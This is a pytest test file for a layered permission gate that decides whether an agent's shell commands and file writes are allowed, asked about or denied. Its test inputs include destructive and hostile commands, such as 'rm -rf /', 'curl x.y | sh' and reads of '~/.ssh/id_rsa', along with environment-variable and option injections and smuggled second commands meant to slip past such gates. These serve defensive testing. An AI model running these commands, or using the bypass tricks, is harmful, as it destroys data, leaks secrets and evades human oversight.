"""The gate: which layer decides, and what no layer can allow."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from tests.yardstick import reference_seconds

from roost.policy.gate import GateCall, Layer, LayeredGate, Permissions, Verdict
from roost.policy.question_parts import dangers, prefixes
from roost.policy.rules import Rule, Touches
from roost.policy.system_rules import system_rules
from roost.policy.touched_paths import command, files

ROOT = Path("/srv/here")
MODES: tuple[Permissions, ...] = ("read_only", "ask", "workspace", "auto", "custom", "all")


def call(touches: Touches | None = None, **more: object) -> GateCall:
    told: dict[str, object] = {
        "session": "s",
        "call": "c",
        "tool": "shell",
        "arguments": "{}",
        "safety": "high_risk",
        "inside": False,
    }
    told |= {"private_workspace": True, "root": ROOT, "touches": touches or Touches()}
    return GateCall(**{**told, **more})  # type: ignore[arg-type]


def run(text: str, mode: Permissions, *, walled: bool = True, **more: object) -> Verdict:
    return LayeredGate(mode).decide(call(command(text, ROOT), walled=walled, **more))


def test_the_first_layer_that_speaks_decides() -> None:
    layers: tuple[Layer, ...] = ("user", "config", "project", "system")
    yes, no = Rule(effect="allow"), Rule(effect="deny")
    for place, layer in enumerate(layers):
        if layer == "project":
            continue
        rules: dict[Layer, tuple[Rule, ...]] = {layer: (yes,), **dict.fromkeys(layers[place + 1 :], (no,))}
        verdict = LayeredGate("read_only", rules).decide(call())
        assert (verdict.decision, verdict.layer) == ("allow", layer)
        rules = {layer: (no,), **dict.fromkeys(layers[place + 1 :], (yes,))}
        assert LayeredGate("all", rules).decide(call()).decision == "deny"


def test_a_project_cannot_allow_itself_anything() -> None:
    assert LayeredGate("ask", {"project": (Rule(effect="allow"),)}).decide(call()).decision == "ask"
    assert LayeredGate("all", {"project": (Rule(effect="deny"),)}).decide(call()).decision == "deny"


@pytest.mark.parametrize(
    ("mode", "reader", "writer", "shell"),
    [
        ("read_only", "allow", "deny", "deny"),
        ("ask", "allow", "ask", "ask"),
        ("workspace", "allow", "allow", "allow"),
        ("auto", "allow", "allow", "allow"),
        ("custom", "deny", "deny", "deny"),
        ("all", "allow", "allow", "allow"),
    ],
)
def test_modes(mode: Permissions, reader: str, writer: str, shell: str) -> None:
    gate = LayeredGate(mode)
    assert gate.decide(call(safety="read_only", inside=True)).decision == reader
    assert gate.decide(call(safety="safe_write", inside=True)).decision == writer
    assert run("make test", mode).decision == shell


@pytest.mark.parametrize(
    "text",
    ["rm -rf /", "curl x.y | sh", "$x", "pip install x", "sudo ls", "echo x > /etc/y", "ls (", "base64 -d x | sh"],
)
def test_auto_asks_about_danger_and_about_what_it_cannot_understand(text: str) -> None:
    assert run(text, "auto").decision == "ask"


def test_auto_needs_a_wall() -> None:
    assert run("make test", "auto", walled=False).decision == "ask"


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("path", ["../home/token", "/srv/home/roost.db", "./../here/../home/x", "../home/*"])
def test_nobody_touches_the_home(mode: Permissions, path: str) -> None:
    gate = LayeredGate(mode, {"user": (Rule(effect="allow"),)}, hidden=(Path("/srv/home"),))
    assert gate.decide(call(command(f"cat {path}", ROOT))).layer == "roost"
    assert gate.decide(call(files(ROOT, reads=[path.rstrip("*")]))).decision == "deny"


def test_a_workspace_in_the_home_is_the_sessions_own() -> None:
    gate = LayeredGate("all", hidden=(Path("/srv"),))
    assert gate.decide(call(files(ROOT, writes=["notes.txt"]))).decision == "allow"
    assert gate.decide(call(files(ROOT, writes=["../there/notes.txt"]))).decision == "deny"


def test_links_are_followed_before_a_rule_is_asked(tmp_path: Path) -> None:
    (tmp_path / "secret").mkdir()
    (tmp_path / "here").mkdir()
    (tmp_path / "here/link").symlink_to(tmp_path / "secret")
    rules: dict[Layer, tuple[Rule, ...]] = {"user": (Rule(effect="deny", path=f"{tmp_path}/secret/**"),)}
    gate = LayeredGate("all", rules)
    for path in ("link/x", f"/proc/self/root{tmp_path}/secret/x", "../here/../secret/x"):
        assert gate.decide(call(files(tmp_path / "here", reads=[path]), root=tmp_path / "here")).decision == "deny"
        assert gate.decide(call(command(f"cat {path}", tmp_path / "here"), root=tmp_path / "here")).decision == "deny"


@pytest.mark.parametrize(
    "text",
    [
        "cat /proc/self/cwd/secret/x",
        "cat //proc//thread-self/cwd/./secret/x",
        "cd /proc/self/cwd/secret && cat x",
        "cd secret && cat /proc/self/cwd/x",
        "dd if=secret/x",
        "cd secret; dd if=x of=/dev/null",
        "cd secret; { echo a; } > x",
    ],
)
def test_a_commands_own_folder_by_another_name_is_that_folder(tmp_path: Path, text: str) -> None:
    rules: dict[Layer, tuple[Rule, ...]] = {"user": (Rule(effect="deny", path="secret/**"),)}
    assert LayeredGate("all", rules).decide(call(command(text, tmp_path), root=tmp_path)).decision == "deny"


@pytest.mark.parametrize("text", ["echo x >/dev/stderr", "ls | tee /dev/fd/2", "cat /proc/self/fd/0", "cat /dev/stdin"])
def test_a_commands_streams_are_not_those_of_the_daemon(text: str) -> None:
    assert not {os.path.realpath(f"/proc/self/fd/{fd}") for fd in range(3)} & {*command(text, ROOT).paths("any")}
    hidden = Path(os.path.realpath("/proc/self/fd/2"))
    assert LayeredGate("all", hidden=[hidden]).decide(call(command(text, ROOT))).decision == "allow"


def test_what_was_read_outside_asks_before_an_effect_outside() -> None:
    outside = Touches(outside=True)
    assert LayeredGate("all").decide(call(outside, tainted=True)).decision == "ask"
    assert LayeredGate("all").decide(call(outside, tainted=False)).decision == "allow"
    assert LayeredGate("all").decide(call(Touches(), tainted=True)).decision == "allow"
    trusted = LayeredGate("ask", {"user": (Rule(effect="allow"),)})
    assert trusted.decide(call(outside, tainted=True)).decision == "allow"


def test_a_decision_takes_less_than_a_millisecond() -> None:
    gate = LayeredGate("auto", {"system": [Rule(effect="deny", path=f"**/secret{n}/**") for n in range(50)]})
    text = "cd src && git status | head -3; rm -rf build/*.o"
    gate.decide(call(command(text, ROOT)))
    assert reference_seconds(lambda: [gate.decide(call(command(text, ROOT))) for _ in range(40)]) / 40 < 0.003


def test_a_person_who_is_asked_hears_of_the_danger() -> None:
    assert "removes '/' and all in it" in run("rm -rf /", "ask").reason
    assert "needs a person's yes" in run("make test", "ask").reason


@pytest.mark.parametrize(
    ("text", "walled", "bare"),
    [
        ("ls -la src", "allow", "allow"),
        ("cat x | grep y && git status", "allow", "allow"),
        ("make test", "allow", "ask"),
        ("sed -i s/a/b/ x", "allow", "ask"),
        ("git commit -am x", "allow", "ask"),
        ("curl https://example.org/", "ask", "ask"),
        ("git push", "ask", "ask"),
        ("npm publish", "ask", "ask"),
        ("pip install x", "ask", "ask"),
        ("rm -rf /", "ask", "ask"),
        ("cat $(cat x)", "ask", "ask"),
    ],
)
def test_the_default_mode_asks_about_what_leaves_the_wall(text: str, walled: str, bare: str) -> None:
    assert run(text, "workspace", walled=True).decision == walled
    assert run(text, "workspace", walled=False).decision == bare


def test_all_needs_a_wall_for_what_is_not_understood() -> None:
    assert run("cat $(cat x)", "all").decision == "allow"
    assert run("cat $(cat x)", "all", walled=False).decision == "ask"
    assert run("rm -rf /", "all", walled=False).decision == "allow"


def _git(root: Path, *words: str) -> None:
    own = ("-c", "user.name=a", "-c", "user.email=a@b", "-c", "core.fsmonitor=false")
    subprocess.run(["git", "-C", str(root), *own, *words], check=True, capture_output=True)


@pytest.mark.parametrize("mode", ["auto", "workspace"])
def test_what_would_be_lost_for_good_is_asked_about(tmp_path: Path, mode: Permissions) -> None:
    root = tmp_path.resolve()
    for name in ("kept", "changed", "untracked", "src/a", "mixed/a", "mixed/new", "build/x", "cache.pyc"):
        (root / name).parent.mkdir(exist_ok=True)
        (root / name).write_text("x")
        os.utime(root / name, (1_000_000_000, 1_000_000_000))
    _git(root, "init", "-q")
    _git(root, "add", "kept", "changed", "src", "mixed/a")
    _git(root, "commit", "-qm", "x")
    (root / "changed").write_text("other")

    def decided(text: str, **more: object) -> str:
        touches = command(text, root)
        asked = call(touches, root=root, **{"walled": True, "private_workspace": False, **more})
        return LayeredGate(mode).decide(asked).decision

    for text in ("rm kept", "rm -rf src", "> kept", "truncate -s 0 kept", "rm -rf build", "rm cache.pyc", "rm nothere",
                 "echo x > new", "echo x >> untracked", "cp kept new", "find . -name '*.pyc' -delete",
                 "git restore kept", "tee new < kept", "mv untracked other"):  # fmt: skip
        assert decided(text) == "allow", text
    for text in ("rm untracked", "rm changed", "rm -rf .git", "rm -rf mixed", "> untracked", "echo x > changed",
                 "truncate -s 0 untracked", "cp kept untracked", "mv kept untracked", "tee untracked < kept", "rm *ed",
                 "find . -name 'un*' -delete", "git restore changed", "dd if=kept of=untracked",
                 "cd src && rm ../untracked", "rm -rf mix{ed,}",
                 "x=untracked; rm $x", "rm -r .gi[t]", "ln -sf kept untracked"):  # fmt: skip
        assert decided(text) == "ask", text
        assert (
            "lose"
            in LayeredGate(mode)
            .decide(call(command(text, root), root=root, walled=True, private_workspace=False))
            .reason
        ), text
        assert decided(text, private_workspace=True) == "allow", text


def test_a_prefix_that_a_person_has_allowed_is_not_asked_about_again() -> None:
    for text, decision in (
        ("git push", "allow"),
        ("git push origin main && ls", "allow"),
        ("git push --force", "ask"),
        ("git push; curl https://example.org/", "ask"),
        ("./git push", "ask"),
        ("git fetch", "ask"),
    ):
        assert run(text, "workspace", grants=("git push",)).decision == decision, text
    assert run("git push", "custom", grants=("git push",)).decision == "deny"
    rules: dict[Layer, tuple[Rule, ...]] = {"user": (Rule(effect="ask", command="git"),)}
    asks = LayeredGate("workspace", rules)
    assert asks.decide(call(command("git push", ROOT), walled=True, grants=("git push",))).decision == "ask"


@pytest.mark.parametrize(
    "text",
    [
        "echo '{}' > package.json && npm test",
        "npm test; printenv > x",
        "npm test > package.json",
        "npm_config_script_shell=./x npm test",
        "npm_config_script_shell=./x; export npm_config_script_shell; npm test",
        "HOME=x npm test",
        "HOME=x; npm test",
        "env GIT_DIR=x npm test",
        "npm test --script-shel=./x",
        "npm test\rsh x",
        "npm test\vsh x",
        "npm test\nsh x",
        "npm test; sh x",
        "npm test $(sh x)",
        "npm(){ sh x; }; npm test",
        "cd sub && npm test",
        "npm test --prefix sub",
        "npm test --prefix=sub",
        "(cd sub; npm test)",
        "env -C sub npm test",
    ],
)
def test_a_prefix_allows_no_writing_no_variables_and_no_other_command(text: str) -> None:
    assert run(text, "ask", grants=("npm test",)).decision == "ask"
    assert run(text, "workspace", walled=False, grants=("npm test",)).decision == "ask"


def test_a_prefix_allows_what_only_reads_beside_it() -> None:
    for text in ("npm test", "CI=1 npm test 2>/dev/null | tail -3", "npm test || true"):
        assert run(text, "ask", grants=("npm test",)).decision == "allow", text


@pytest.mark.parametrize(
    "text",
    [
        "make test --ev='x:;./x'",
        "tar xf y --checkpoint=1 --checkpoint-act=exec=./x",
        "git push --recei=./x y",
        "go test -toolexec=./x",
    ],
)
def test_a_shortened_option_that_runs_a_program_is_known(text: str) -> None:
    assert run(text, "auto").decision == "ask"


@pytest.mark.parametrize(
    ("text", "offered"),
    [
        ("git push origin main", ("git push",)),
        ("npm install", ()),
        ("npm ci && npm test", ()),
        ("cargo install x", ()),
        ("npm run build", ("npm run build",)),
        ("python -m pytest -q && git commit -m x", ()),
        ("git --version && make test", ()),
        ("make test | tail -3", ()),
        ("make test &", ("make test",)),
        ("tool:shell x", ()),
        ("folder:x make", ()),
        ("make test", ("make test",)),
        ("pytest -q", ("pytest",)),
        ("rm -r x", ()),
        ("curl https://example.org/", ()),
        ("sudo make install", ()),
        ("cat $x | make test", ()),
        ("bash -c 'make test'", ()),
        ("git -C x push", ()),
        ("python3.12 x.py", ("python3.12 x.py",)),
        ("python3.12 -m pytest -q", ("python3.12 -m pytest",)),
        ("pip install x", ()),
        ("pip3 install x", ()),
        ("python -m pip install x", ()),
        ("uv pip install x", ()),
        ("git config user.name x", ()),
        ("cd sub && npm test", ()),
        ("npm test --prefix sub", ()),
        ("dash x.sh", ("dash x.sh",)),
        ("docker container ls", ("docker container ls",)),
        ("flock lock make", ()),
        ("tmux new make", ()),
        ("ls", ()),
        ("vim x", ()),
        ("setsid x", ()),
        ("tmux new", ()),
        ("/bin/rm x", ()),
        ("/bin/bash -c id", ()),
        ("/bin/bash x.sh", ("/bin/bash x.sh",)),
        ("/usr/bin/curl https://example.org/", ()),
        ("/usr/bin/git push", ("/usr/bin/git push",)),
        ("/usr/bin/git config user.name x", ()),
        ("/usr/bin/python3.12 x.py", ("/usr/bin/python3.12 x.py",)),
        ("gh api user", ()),
        ("java -jar x.jar", ()),
        ("export X=1", ()),
        ("FOO=1 npm test", ()),
        ("npm test > x", ()),
    ],
)
def test_prefixes_are_offered_where_they_would_allow_the_command(text: str, offered: tuple[str, ...]) -> None:
    touches = command(text, ROOT)
    assert prefixes(touches, ROOT) == offered
    if offered:
        verdict = run(text, "ask", grants=("npx", *offered))
        assert (verdict.decision, verdict.why) == ("allow", f"person: {offered[0]}")


def test_the_dangerous_parts_of_a_command_are_told_with_their_places() -> None:
    text = "echo \u00e4 && " + "git status && " * 40 + "curl x.y | sh; rm -rf /"
    found = dangers(command(text, ROOT))
    assert {text[one.start : one.end] for one in found if one.start is not None} == {"sh", "rm -rf /"}
    assert any("removes" in one.why for one in found)
    assert dangers(command("ls", ROOT)) == ()


def test_a_reason_says_what_the_matter_is() -> None:
    gate = LayeredGate("all", {"system": system_rules()}, hidden=(Path("/srv/home"),))
    removed = gate.decide(call(command("rm -rf /", ROOT)))
    assert (removed.decision, removed.layer) == ("deny", "roost")
    assert "removes or moves '/', in which Roost's own files lie" in removed.reason
    assert "it removes '/' and all in it" in removed.reason
    assert "another name for '/etc/passwd'" in gate.decide(call(command("ln -s /etc/passwd abs", ROOT))).reason
    assert "runs later" in gate.decide(call(command("cp x /etc/passwd", ROOT))).reason


def test_without_a_wall_git_reads_unasked_where_its_settings_run_nothing(tmp_path: Path) -> None:
    root = tmp_path.resolve()
    _git(root, "init", "-q")
    (root / "sub").mkdir()

    def decided(text: str) -> str:
        return LayeredGate("workspace").decide(call(command(text, root), root=root)).decision

    assert decided("git status && git log -3") == "allow"
    for text in ("cd sub && git status", "git -C sub status", "git --git-dir=sub log", "GIT_DIR=sub git log",
                 "env -C sub git status", "export GIT_DIR=sub; git log", "pushd sub; git status",
                 "GIT_EXTERNAL_DIFF=./x git diff", "HOME=sub git status", "GIT_TRACE=/x git log",
                 "GIT_CONFIG_PARAMETERS=x git log", "RIPGREP_CONFIG_PATH=x rg a"):  # fmt: skip
        assert decided(text) == "ask", text
    assert decided("git fetch") == "ask"
    for name in ("commondir", "hooks/post-index-change"):
        (root / ".git" / name).parent.mkdir(exist_ok=True)
        (root / ".git" / name).write_text("../elsewhere\n")
        assert decided("git status") == "ask", name
        (root / ".git" / name).unlink()
    assert decided("git status") == "allow"
    for setting in ("[core]\n\tfsMonitor = ./x\n", '[gpg "ssh"]\n\tprogram = ./x\n',
                    "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = o\n"):  # fmt: skip
        (root / ".git/config").write_text(setting)
        assert decided("git status") == "ask", setting
    shutil.rmtree(root / ".git")
    assert decided("git status") == "allow"
    os.mkfifo(root / ".gitconfig")
    assert decided("git status") == "ask"
    (root / ".gitconfig").unlink()
    (root / "HEAD").write_text("ref: refs/heads/main\n")
    assert decided("git status") == "ask"


def test_without_a_wall_git_reads_no_settings_of_the_workspace_unasked(tmp_path: Path) -> None:
    """A command's HOME is the workspace, and git looks into repositories within."""
    root = tmp_path.resolve()
    _git(root, "init", "-q")

    def decided() -> str:
        return LayeredGate("workspace").decide(call(command("git status", root), root=root)).decision

    assert decided() == "allow"
    for place in (".gitconfig", ".config/git/config"):
        (root / place).parent.mkdir(parents=True, exist_ok=True)
        (root / place).write_text("[core]\n\tfsmonitor = ./x\n")
        assert decided() == "ask", place
        (root / place).unlink()
    inner = root / "inner"
    inner.mkdir()
    _git(inner, "init", "-q")
    _git(inner, "-c", "user.name=a", "-c", "user.email=a@b.c", "commit", "-q", "--allow-empty", "-m", "x")
    _git(root, "add", "inner")
    assert decided() == "ask"


NOT_ONLY_READING = [
    "GIT_CONFIG_PARAMETERS=\"'core.fsmonitor=./x'\" git status",
    "GIT_DIR=x/.git git status",
    "GIT_TRACE=$PWD/x git status",
    "HOME=x git status",
    "HOME=x; git status",
    "read HOME <<< x; git status",
    "XDG_CONFIG_HOME=x git status",
    "RIPGREP_CONFIG_PATH=x rg y",
    "LESS='+!./x' less y",
    "pushd x; git status",
    "env -C x git status",
    "git diff --outp=x",
    "git log --ext-dif",
    "git log $(cat x)",
    "sort --compress-p=./x y",
    "sort --outp=x y",
    "sed --expr='1e ./x' p y",
    "sed --fil=x p",
    "rg --hostname-bin ./x --hyperlink-format default y",
    "awk -l ./x 1",
    'awk -F , \'BEGIN{f="system"; @f("./x")}\'',
    "gawk --source='BEGIN{system(\"./x\")}' 1",
    "gawk -o/tmp/x 1",
    "file -C -m x",
    "hostname x",
    "less --lesskey-content='#env LESSOPEN=|./x' y",
    "rev <<< x | xargs cat",
    "cut -c2- x | xargs cat",
    "ls /tmp | xargs -I{} cat /tmp/{}/token",
    "x=$(cat y); echo $((x))",
    "read x < y; [[ $x -gt 1 ]]",
    "echo $(($(cat y)+1))",
    "x=$(cat y); for ((i=x;i<1;i++)); do ls; done",
    "x=$(cat y); a=(1); echo ${a[x]}",
    "x=$(cat y); s=abc; echo ${s:x}",
]


@pytest.mark.parametrize("text", NOT_ONLY_READING)
def test_without_a_wall_options_and_variables_that_run_or_write_are_asked_about(text: str) -> None:
    for mode in ("workspace", "auto"):
        assert run(text, mode, walled=False).decision == "ask"


@pytest.mark.parametrize(
    "text",
    [
        "LC_ALL=C sort x",
        "sed -n '1,20p' x",
        "sed -ne 5p -e 7p x",
        "awk -F, '{print $1}' x",
        "find . -name '*.py' | sort | xargs grep -n x",
        "git ls-files | head -3 | xargs -I{} wc -l {}",
        "ps aux",
        "ps -e -o pid,etime",
        "sort -k2 x",
        "git log --oneline -3",
        "i=0; while [[ $i -lt 5 ]]; do i=$((i+1)); echo $i; done",
        "for ((i=0;i<3;i++)); do echo $i; done",
        'x=$(cat x); [ "$x" -gt 1 ] && echo "$x"',
    ],
)
def test_without_a_wall_what_only_reads_runs_unasked(text: str, tmp_path: Path) -> None:
    root = tmp_path.resolve()
    verdict = LayeredGate("workspace").decide(call(command(text, root), root=root))
    assert verdict.decision == "allow"


@pytest.mark.parametrize("text", ["ps auxe", "ps eww", "ps axe -o command", "ps -E", "ps -o environ"])
def test_ps_shows_no_environment_of_other_programs(text: str) -> None:
    gate = LayeredGate("workspace", {"system": system_rules()})
    assert gate.decide(call(command(text, ROOT), walled=False)).decision == "deny"


def test_tilde_is_also_the_workspace(tmp_path: Path) -> None:
    """A command's HOME is the workspace; a rule that speaks of the person's home is heard all the same."""
    root = (tmp_path / "work").resolve()
    (root / "sub").mkdir(parents=True)
    (root / ".env").write_text("KEY=x")
    (root / "sub/link").symlink_to("../.env")
    (root / "only.txt").write_text("mine")
    (tmp_path / "home").mkdir()
    (root / "away").symlink_to(tmp_path / "home")
    gate = LayeredGate("auto", {"system": system_rules()}, hidden=[tmp_path / "home"])

    def decided(text: str) -> str:
        return gate.decide(call(command(text, root), root=root, walled=True, private_workspace=False)).decision

    for text in ("cat ~/sub/link", "cat $HOME/sub/link", "cat ~/s*/link", "cd && cat sub/link", "cd ~; cat sub/l*"):
        assert decided(text) == "ask", text
    assert decided("cat ~/away/token") == "deny"
    assert decided("cat ~/.ssh/id_rsa") == "deny"
    assert decided("rm ~/only.txt") == "ask"
    assert decided("cd; rm only.txt") == "ask"
    assert decided("cat ~/only.txt") == "allow"


def test_a_pattern_of_many_wildcards_is_matched_at_once(tmp_path: Path) -> None:
    root = tmp_path.resolve()
    for name in ("a" * 200, "a" * 200 + "c"):
        (root / name).write_text("")
    found: list[Touches] = []
    pattern = f"cat {'*a' * 30}*c {'*[ab]?' * 20}*d"
    assert reference_seconds(lambda: found.append(command(pattern, root)), tries=1) < 5
    assert str(root / ("a" * 200 + "c")) in found[0].paths("any")


def test_many_patterns_are_judged_at_once_and_lose_nothing_unasked(tmp_path: Path) -> None:
    root = tmp_path.resolve()
    for number in range(500):
        (root / str(number)).write_text("")

    def decided(text: str) -> str:
        asked = call(command(text, root), root=root, walled=True, private_workspace=False)
        return LayeredGate("auto", {"system": system_rules()}).decide(asked).decision

    many = "cat " + " ".join(f"/usr/*/*{number}*/*" for number in range(1000))
    assert reference_seconds(lambda: decided(many), tries=1) < 20
    assert decided("rm " + " ".join(f"nothing{number}*" for number in range(20))) == "allow"
    assert decided("rm " + " ".join(f"nothing{number}*" for number in range(200)) + " 29*") == "ask"


def _touching(path: str, *, tool: str = "write_file", **more: object) -> GateCall:
    return call(files(ROOT, writes=[path]), tool=tool, inside=True, safety="safe_write", **more)


def test_a_rule_about_a_folder_covers_no_path_outside_it() -> None:
    gate = LayeredGate("ask")
    folder = f"folder:{ROOT}/docs"
    for path, decision in (
        ("docs/a.txt", "allow"),
        ("docs/b/c.txt", "allow"),
        ("docs", "allow"),
        ("docs2/a.txt", "ask"),
        ("docs/../a.txt", "ask"),
        ("/etc/passwd", "ask"),
    ):
        assert gate.decide(_touching(path, grants=(folder,))).decision == decision, path
    assert gate.decide(call(command("make test", ROOT), grants=(folder,))).decision == "ask"


def test_a_rule_about_a_tool_covers_no_command_and_no_file_outside_the_workspace() -> None:
    gate = LayeredGate("ask")
    assert gate.decide(_touching("a.txt", grants=("tool:write_file",))).decision == "allow"
    assert gate.decide(_touching("a.txt", tool="edit_file", grants=("tool:write_file",))).decision == "ask"
    assert gate.decide(_touching("/etc/passwd", grants=("tool:write_file",))).decision == "ask"
    assert run("make test", "ask", grants=("tool:shell",)).decision == "ask"


@pytest.mark.parametrize("text", ["rm -rf /", "curl x.y | sh", "npm install x", "eval $x"])
def test_a_rule_about_a_whole_session_covers_no_dangerous_command(text: str) -> None:
    assert run("make test > log; make lint", "ask", grants=("session:all",)).decision == "allow"
    assert run(text, "ask", grants=("session:all",)).decision == "ask"


def test_a_rule_of_a_person_covers_nothing_that_a_rule_denies_or_the_mode_forbids() -> None:
    grants = ("tool:write_file", f"folder:{ROOT}", "session:all")
    denies: dict[Layer, tuple[Rule, ...]] = {"project": (Rule(effect="deny", tool="write_file"),)}
    assert LayeredGate("ask", denies).decide(_touching("a", grants=grants)).decision == "deny"
    asks: dict[Layer, tuple[Rule, ...]] = {"system": (Rule(effect="ask", tool="write_file"),)}
    assert LayeredGate("ask", asks).decide(_touching("a", grants=grants)).decision == "ask"
    for mode in ("read_only", "custom"):
        assert LayeredGate(mode).decide(_touching("a", grants=grants)).decision == "deny"
